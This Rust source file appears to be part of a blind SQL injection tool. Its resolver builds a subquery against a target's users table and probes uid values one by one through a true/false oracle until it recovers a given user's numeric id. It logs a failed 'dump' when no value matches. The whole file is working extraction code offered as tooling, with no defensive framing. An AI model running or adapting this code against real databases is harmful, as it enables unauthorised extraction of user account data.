use crate::oracle::{Oracle, Operator, OracleQuery};
use tracing::{debug, warn};

/// Finds a user's numeric id by probing `uid = n` for increasing `n`.
pub struct IdentityResolver<'a> {
    oracle: &'a dyn Oracle,
    bound: u32,
}

impl<'a> IdentityResolver<'a> {
    /// `bound` is exclusive; ids at or above it are never found.
    pub fn new(oracle: &'a dyn Oracle, bound: u32) -> Self {
        Self { oracle, bound }
    }

    pub fn subquery(username: &str) -> String {
        format!("(select uid from users where username='{}')", username)
    }

    pub async fn resolve(&self, username: &str) -> Option<u32> {
        let left = Self::subquery(username);

        for uid in 0..self.bound {
            if self.oracle.probe(&OracleQuery::against_literal(left.as_str(), Operator::Eq, uid)).await {
                debug!(uid, "UID matched");
                return Some(uid);
            }
        }

        warn!(username, bound = self.bound, "Failed to dump UID");
        None
    }
}
